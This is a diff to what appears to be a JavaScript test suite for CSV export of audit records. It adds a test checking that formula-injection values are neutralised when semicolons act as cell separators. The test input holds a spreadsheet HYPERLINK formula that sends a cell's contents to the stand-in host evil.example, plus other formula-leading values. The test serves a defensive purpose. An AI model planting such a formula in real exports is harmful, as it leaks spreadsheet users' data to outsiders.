@@ -102,6 +102,18 @@ describe("the audit as a file", () => {
     });
   }
 
+  it("hands none to one that takes semicolons for the ends of cells", async () => {
+    const name = 'Eve;=HYPERLINK("http://evil.example/?x="&A1); @SUM(A1);-1;\uff1d1; x';
+    const text = await csvOf(line({ subjectName: name, detail: { displayTo: name } }));
+    const pieces = text.split(/[;\r\n]+/).map((piece) => piece.trim());
+    assert.deepEqual(
+      pieces.filter((piece) => /^"?[=+\-@\uff1d]/.test(piece)),
+      [],
+    );
+    assert.equal(pieces.filter((piece) => piece.startsWith("'=HYPERLINK")).length, 2);
+    assert.equal(pieces.filter((piece) => piece.startsWith("'\uff1d1")).length, 2);
+  });
+
   it("keeps quotes, commas, line breaks and letters of every kind in their cell", async () => {
     for (const text of [
       'say "hi", then go',
